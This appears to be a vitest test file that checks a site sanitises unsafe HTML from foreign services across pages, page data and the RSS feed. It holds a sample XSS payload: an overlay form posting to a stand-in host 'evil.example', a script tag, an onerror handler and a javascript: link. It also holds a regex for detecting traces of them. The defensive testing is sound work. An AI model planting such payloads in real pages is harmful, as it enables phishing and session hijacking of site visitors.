/**
 * HTML of foreign services that do not sanitise: pages, their data and the feed contain only the harmless part of it.
 * Architecture, Trust; decision 40; security page, attack cases 8 and 9.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { serviceVariable } from '../../../config.ts';
import { serviceNames } from '../../../rest/contract.ts';
import { openAlteringServer, type AlteringServer } from '../../conformance/alteringServer.ts';
import { httpOf, type HttpResponse, type Http } from '../../support/http.ts';
import { startStack, type Stack } from '../../support/stack.ts';
import { editorOf } from '../editing.ts';
import { us } from '../faults/faultyParts.ts';

/** HTML that a service without sanitising lets its authors store. */
const HOSTILE =
  '<div style="position:fixed;inset:0;z-index:9999" id="evil">Cover<form action="https://evil.example/"><input name="p">' +
  '</form><script>window.evil=1</script><style>body{display:none}</style><img src="/x.jpg" onerror="window.evil=1">' +
  '<a href="javascript:evil()">go</a></div>';
/** None of these may remain, neither as a tag nor as text in a feed or in a page's data. */
const TRACES = /evil|position:fixed|onerror|<form action|display:none|javascript:/g;
const tracesIn = (text: string): string[] => text.match(TRACES) ?? [];

let services: Stack;
let foreignService: AlteringServer;
let site: Stack;
let http: Http;
beforeAll(async () => {
  services = await startStack();
  const editor = editorOf(services);
  await editor.text('words', '<p>Kept.</p>');
  await editor.homeRow('default', ['words']);
  const published = { global: { status: 'publish', title: '', isHome: false } };
  await editor.page('parts', { ...published, sections: [{ type: 'text', html: '<p>Kept.</p>' }] });
  await editor.page('whole', { ...published, isNewEditor: true, newEditorContent: '<p>Kept.</p>' });

  foreignService = await openAlteringServer(services.url);
  foreignService.alter = (answer, { path }) =>
    path.includes('/devotionals') || path.includes('/pages2020') || path.includes('/widgets')
      ? { ...answer, body: withHostileHtml(answer.body) }
      : answer;
  const settings = Object.fromEntries(
    serviceNames.map((name) => [serviceVariable(name), foreignService.url]),
  );
  site = await startStack({ databaseUrl: services.databaseUrl, settings });
  http = httpOf(site);
});
afterAll(async () => {
  await http?.close();
  await site?.stop();
  await foreignService?.close();
  await services?.stop();
});

/** The response body with the hostile text inserted before each piece of HTML. */
function withHostileHtml(node: unknown): unknown {
  if (Array.isArray(node)) return node.map(withHostileHtml);
  if (typeof node !== 'object' || node === null) return node;
  return Object.fromEntries(
    Object.entries(node).map(([key, value]) => {
      const isHtml = ['content', 'html', 'newEditorContent'].includes(key);
      if (isHtml && typeof value === 'string') return [key, HOSTILE + value];
      if (key === 'widgetContent') return [key, JSON.stringify(withHostileHtml(JSON.parse(String(value))))];
      return [key, withHostileHtml(value)];
    }),
  );
}

function expectHarmless(response: HttpResponse, shown: string): void {
  expect(response.status).toBe(200);
  expect(tracesIn(response.text)).toEqual([]);
  const main = response.document().querySelector('main')!;
  expect(main.textContent).toContain(shown);
  expect(main.innerHTML).toMatch(/Cover<img (?:loading="lazy" decoding="async" )?src="\/x\.jpg"><a>go<\/a>/);
}

it('the foreign service sends unsanitised HTML', async () => {
  const answer = await fetch(`${foreignService.url}/api/devotionals-dev/v2?site_id=1-publish&on=11-21-2026`);
  expect(await answer.text()).toContain('onerror');
});

it.each([
  ['the text of a reading', '/2026/11/21', ''],
  ['the parts of a page', '/page/parts', 'Kept.'],
  ['a page of the new editor', '/page/whole', 'Kept.'],
  ['a piece of text on the home', '/', 'Kept.'],
])('%s contains nothing harmful, on the screen and in its data', async (_, path, shown) => {
  expectHarmless(await http(path, us), shown);
});

it('the feed contains nothing harmful', async () => {
  const { status, text } = await http('/feed.xml');
  expect(status).toBe(200);
  expect(tracesIn(text)).toEqual([]);
  expect(text).toContain('&lt;div&gt;Cover&lt;img src=');
});
